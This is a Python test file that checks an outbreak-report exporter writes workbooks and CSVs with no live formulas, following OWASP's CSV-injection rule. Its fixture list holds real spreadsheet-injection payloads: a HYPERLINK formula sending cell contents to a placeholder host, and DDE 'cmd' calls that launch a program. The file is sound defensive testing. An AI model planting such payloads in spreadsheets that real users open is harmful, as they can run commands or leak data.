"""No formula in any workbook or CSV written for readers (OWASP's CSV-injection rule): a
municipality, a scenario title or an owner that starts with =, +, -, @, a tab or a carriage
return is written as text. The workbook is read back with openpyxl and as raw XML."""

from __future__ import annotations

import csv
import zipfile

import openpyxl
import pandas as pd

from analysis.presentation.formulas import FORMULA_START, neutral
from analysis.presentation.report import Report, Table
from analysis.runner.excel import write_workbook
from analysis.runner.render import PageInfo

NB = "response_team_costs"
HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Hyllestad") (illustrativ)',
           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
           "\r=1+1"]
CR = HOSTILE[-1]  # pandas writes a carriage return unquoted: tested for the workbook only


def _build(tmp_path):
    report = Report.start(NB, {"output_dir": str(tmp_path)})
    data = pd.DataFrame({"municipality": HOSTILE[:-1] + ["Hyllestad"],
                         "outbreaks": [-1, 2, 3, 4, 5, 6]})
    report.show(Table("kommuner", "Utbrudd per kommune", data,
                      {"municipality": "Kommune", "outbreaks": "Utbrudd"},
                      {"outbreaks": "int"}))
    info = PageInfo(title="=1+1", scenario="s", scenario_title="=HYPERLINK(\"x\")",
                    date="07.12.2026 kl. 05:00", commit="abc", sources=["@kilde", CR],
                    notices=["-varsel"], owner="=owner()", contact="+47 000",
                    data_date="", version="0")
    return write_workbook(tmp_path, info)


def test_no_cell_of_the_workbook_is_a_formula(tmp_path):
    path = _build(tmp_path)
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode(), name
    # the hostile texts are there, as text: from the CSV with its quote, on the front
    # sheet as given (stored as a string with Excel's quote prefix)
    assert "'" + HOSTILE[0] in texts and "=owner()" in texts and "=1+1" in texts
    front = wb.worksheets[0]
    assert front["A1"].value == "=1+1" and front["A1"].quotePrefix
    # numbers stay numbers, a negative one included
    sheet = wb.worksheets[1]
    assert [c.value for c in sheet["B"] if isinstance(c.value, int)] == [-1, 2, 3, 4, 5, 6]


def test_no_text_of_a_csv_for_readers_starts_a_formula(tmp_path):
    _build(tmp_path)
    with open(tmp_path / "tables" / "kommuner.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    names = [r["municipality"] for r in rows]
    assert names == ["'" + h for h in HOSTILE[:-1]] + ["Hyllestad"]
    assert not any(n.startswith(FORMULA_START) for n in names)
    assert [r["outbreaks"] for r in rows][0] == "-1"  # a number, not text: left alone


def test_neutral_leaves_ordinary_text_and_numbers_alone():
    assert [neutral(v) for v in ("Oslo", "Nord-Fron", "", 3, -2.5, None)] == \
        ["Oslo", "Nord-Fron", "", 3, -2.5, None]
    assert [neutral(c + "x") for c in FORMULA_START] == ["'" + c + "x" for c in FORMULA_START]
